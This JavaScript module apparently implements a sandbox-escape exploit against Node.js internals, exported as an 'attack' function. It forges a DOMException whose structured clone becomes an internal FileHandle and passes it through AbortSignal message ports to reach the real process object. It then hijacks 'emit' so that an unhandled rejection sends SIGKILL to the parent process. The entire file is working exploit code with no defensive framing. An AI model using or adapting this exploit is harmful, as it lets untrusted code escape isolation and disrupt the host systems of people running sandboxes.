/** The key of a method by which Node clones an object, or transfers it to another thread. */
const keyOf = ({ prototype }, name) =>
  Object.getOwnPropertySymbols(prototype).find(({ description }) => description === name);

/** An error that has its clone made as an open file, of a class that only Node itself has. */
function disguised() {
  let key = keyOf(DOMException, 'messaging_clone_symbol');
  const asked = new DOMException();
  Object.setPrototypeOf(asked, new Proxy({}, { get: (_, name) => void (key ??= name) }));
  try {
    structuredClone(asked);
  } catch {}
  const value = () => ({
    data: { handle: { fd: 3 } },
    deserializeInfo: 'internal/fs/promises:FileHandle',
  });
  return Object.defineProperty(new DOMException(), key, { value });
}

/** The ports of the channel by which a signal would reach another thread. */
function portsOf(signal) {
  signal[keyOf(AbortSignal, 'messaging_transfer_list_symbol')]();
  const keys = Object.getOwnPropertySymbols(signal);
  return keys.map((key) => signal[key]).find((value) => value?.port1);
}

/** Node reports an unhandled rejection with an `emit` that it calls on the real process. */
async function killBy(file) {
  const emitter = Object.getPrototypeOf(Object.getPrototypeOf(file));
  emitter.emit = function kill() {
    this.kill?.(this.ppid, 'SIGKILL');
    return true;
  };
  Promise.reject(new Error('nobody handles it'));
  await new Promise((resolve) => setTimeout(resolve, 10));
}

export const attack = async () => {
  const copy = structuredClone(disguised());
  if (typeof copy.sync === 'function') await killBy(copy);
  const { port1, port2 } = portsOf(new AbortController().signal);
  const moved = new Promise((resolve) => {
    port2.onmessage = ({ data }) => resolve(data);
  });
  port1.postMessage(disguised());
  await killBy(await moved).catch(() => 'a port is an object of Node, too');
};
